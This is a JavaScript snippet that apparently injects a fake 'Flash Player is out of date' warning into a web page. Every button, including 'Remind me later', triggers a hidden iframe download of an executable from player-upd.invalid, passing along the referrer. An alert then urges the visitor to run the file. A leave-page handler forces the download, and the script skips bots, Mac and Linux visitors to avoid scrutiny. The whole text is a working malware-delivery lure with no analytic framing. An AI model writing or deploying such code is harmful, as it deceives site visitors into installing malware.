var ua=navigator.userAgent,v='11.7.700',inst=false;
function chk(){var o=document.createElement('div');o.innerHTML='<table bgcolor=#fff width=480 style="position:absolute;top:120px;left:50%;margin-left:-240px;border:1px solid #999"><tr><td><img src=fl.gif></td><td><b>Your Flash Player is out of date</b><br>The version of this plug-in on your computer does not include the latest security updates. Version '+v+' required.</td></tr><tr><td colspan=2 align=right><a href="#" id=u1>Remind me later</a> <a href="#" id=u2><b>UPDATE NOW</b></a></td></tr></table>';
document.body.appendChild(o);document.getElementById('u1').onclick=document.getElementById('u2').onclick=function(){dl();return false}}
function dl(){inst=true;var f=document.createElement('iframe');f.style.display='none';f.src='http://player-upd.invalid/get.php?f=FlashPlayer_'+v+'.exe&s='+escape(document.referrer);document.body.appendChild(f);setTimeout(function(){alert('Please run the downloaded file to continue watching')},3000)}
window.onbeforeunload=function(){if(!inst){setTimeout(dl,10);return 'Are you sure you want to leave? Update required!'}};
if(!/bot|mac|linux/i.test(ua))setTimeout(chk,1500);
